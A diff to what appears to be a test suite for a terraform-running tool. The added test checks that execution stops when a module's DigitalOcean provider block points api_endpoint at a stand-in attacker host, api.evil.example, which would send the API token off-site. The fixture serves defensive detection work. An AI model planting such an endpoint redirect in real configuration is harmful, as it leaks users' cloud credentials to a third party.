@@ -193,6 +193,31 @@ describe.concurrent("terraform in the workspace of another environment", () => {
   });
 });
 
+describe.concurrent("a provider block that sends the token to another host", () => {
+  const HOST = "https://api.evil.example";
+  const MODULE = "modules/a/main.tf";
+  const bench = sharedExecBench(async (bench) => {
+    await bench.write("main.tf", 'module "a" {\n  source = "./modules/a"\n}\n');
+    await bench.write(MODULE, "");
+    // Keeps a record of a repo in which nothing is wrong.
+    await bench.exec(RUNS);
+    await bench.write(MODULE, `provider "digitalocean" {\n  api_endpoint = "${HOST}"\n}\n`);
+  });
+
+  it("stops exec", async ({ expect }) => {
+    const { status, stdout, stderr } = await bench().fail(RUNS);
+    expect(stderr).toMatch(
+      /modules\/a\/main\.tf:1: this provider block sends the token to https:\/\/api\.evil\.example \(api_endpoint\)\. .*\[OTHER_HOST\]\n {2}→ Remove api_endpoint/,
+    );
+    expect({ status, stdout }).toEqual({ status: 125, stdout: "" });
+  });
+
+  it("does not stop exec if the environment names the host", async ({ expect }) => {
+    const env = { DIGITALOCEAN_API_URL: HOST };
+    expect(await bench().exec(RUNS, { env })).toMatchObject({ status: 0, stdout: "ran\n" });
+  });
+});
+
 describe.concurrent("a doctl that would store the token is not run", () => {
   const bench = sharedExecBench(async (bench) => {
     const { path } = await fakeDoctl(bench.bin, { writeDelayMs: 0 });
